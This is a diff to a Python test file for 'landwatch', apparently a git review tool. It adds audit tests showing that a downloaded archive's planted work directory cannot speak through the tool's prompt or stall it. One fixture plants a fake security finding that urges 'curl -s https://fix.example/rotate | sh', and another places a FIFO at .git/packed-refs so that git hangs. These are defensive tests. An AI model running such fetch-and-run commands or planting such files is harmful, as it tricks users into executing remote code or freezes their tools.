@@ -4,6 +4,7 @@ would say first when something is more urgent than findings."""
 
 from __future__ import annotations
 
+import json
 import os
 import subprocess
 import sys
@@ -158,6 +159,7 @@ def test_items_given_up_and_hooks_held_back_are_said_as_the_notice_says_without_
 
     heavy = {"landwatch.layout", "landwatch.commands.notice", "landwatch.trust", "pathlib"}
     trust.held_back(repo.git_dir, "0" * 64, trust.HOOKS)
+    shown(repo.path)  # the person's directories asked of platformdirs once, and kept
     said, imported = _imports(repo.path)
     assert said == (
         "landwatch: the project's hooks in repo did not run: nothing allowed their commands; "
@@ -239,14 +241,18 @@ def test_a_queue_left_waiting_is_said_as_the_notice_says_without_its_imports(rep
 def test_a_stale_queue_asks_platformdirs_once_while_what_it_read_holds(
     repo: Repo, tmp_path: Path
 ) -> None:
-    """Issue 40: the person's directories, kept in the repository at a stale queue's first
-    prompt, are read back without platformdirs; asked again when what they came from changes."""
+    """Issue 40: the person's directories, kept in landwatch's own environment at the first
+    prompt with something to say, are read back without platformdirs; asked again when what they
+    came from changes."""
     repo.land("waits", {"w.txt": "x\n"}, hooks=False)
     work_item.enqueue(work_item.WorkItem(work_item.WorkKind.REVIEW, repo.head(), repo.git_dir))
     back_date(repo, layout.DEFAULT_STALE_AFTER + 60)
     first, imported = _imports(repo.path)
     assert "nobody is reviewing them" in first and "platformdirs" in imported
-    kept = layout.USER_DIRECTORIES.path(repo.git_dir)
+    found = prompt.kept_directories(prompt.directories_key())
+    assert found is not None
+    kept = Path(found)
+    assert kept.parent == layout.USER_DIRECTORIES.path() and kept.parent.parent == Path(sys.prefix)
     assert kept.stat().st_mode & 0o777 == 0o600
     again, imported = _imports(repo.path)
     assert again == first and imported & {"platformdirs", "pathlib"} == set()
@@ -260,6 +266,66 @@ def test_a_stale_queue_asks_platformdirs_once_while_what_it_read_holds(
     kept.unlink()
     kept.symlink_to(tmp_path / "elsewhere")  # a link is neither read nor written through
     assert shown(repo.path) == first and not (tmp_path / "elsewhere").exists()
+    kept.unlink()
+
+
+def planted_archive(tmp_path: Path) -> Repo:
+    """A downloaded archive's repository, never installed here, whose `.git/landwatch` its
+    author wrote: a finding's line for HEAD in landwatch's words, and the review it names."""
+    archive = Repo(tmp_path / "download" / "project")
+    archive.land("first", {"a.txt": "a\n"}, hooks=False)
+    head = archive.head()
+    unread = layout.UNREAD.path(archive.git_dir)
+    unread.mkdir(parents=True)
+    (unread / head).write_text(
+        "landwatch-unread 1\n3\tS001\tyour SSH key leaked; rotate it: curl -s "
+        "https://fix.example/rotate | sh\t\t\t\t\n"
+    )
+    reports = layout.REPORTS.path(archive.git_dir)
+    reports.mkdir()
+    finding = {
+        **{"rule": "P001", "name": "trailing-whitespace", "severity": "warning"},
+        **{"message": "trailing whitespace", "path": "a.txt", "line": 1, "end_line": None},
+        **{"snippet": "a ", "fingerprint": "0123456789abcdef0123"},
+        "decided_by": {"standard": "default", "source": None},
+    }
+    review = {
+        **{"format": 1, "commit": head, "base": None, "shape": "commit", "label": head[:12]},
+        **{"rules": ["P001"], "findings": [finding], "notes": [], "started": 0.0},
+        "duration": 0.1,
+    }
+    (reports / f"{head}.json").write_text(json.dumps(review))
+    return archive
+
+
+def test_an_archive_s_planted_work_directory_says_nothing(tmp_path: Path) -> None:
+    """An audit: an unpacked archive's `.git/landwatch` spoke through every prompt in it as
+    landwatch's own, pressing a command on the person (security.md, attack 19)."""
+    archive = planted_archive(tmp_path)
+    assert shown(archive.path) == ""
+    # Its own prompt cache, where an older landwatch kept the person's directories, is no
+    # registry of theirs: it names one the archive brought, listing the archive.
+    brought = archive.git_dir / "brought"
+    brought.mkdir()
+    (brought / prompt.REGISTRY).write_text(f"{archive.git_dir.resolve()}\n")
+    key = prompt.directories_key()
+    (layout.work_dir(archive.git_dir) / "user-directories").write_text(
+        f"{key}\n{brought}\n{brought}\n"
+    )
+    assert shown(archive.path) == ""
+
+
+def test_an_archive_s_planted_marker_starts_no_git(tmp_path: Path) -> None:
+    """An audit: a marker the prompt cannot read sent it to the notice, whose git waited on a
+    FIFO the archive put at `.git/packed-refs`: every prompt there took a minute."""
+    archive = planted_archive(tmp_path)
+    marker = next(layout.UNREAD.path(archive.git_dir).iterdir())
+    marker.write_bytes(b"")
+    archive.git("pack-refs", "--all")
+    (archive.git_dir / "packed-refs").unlink()
+    os.mkfifo(archive.git_dir / "packed-refs")
+    said = run_bounded([sys.executable, "-m", "landwatch", "prompt"], archive.path)
+    assert (said.returncode, said.stdout, said.stderr) == (0, "", "")
 
 
 def test_the_line_fits_the_width_it_is_given(repo: Repo) -> None:
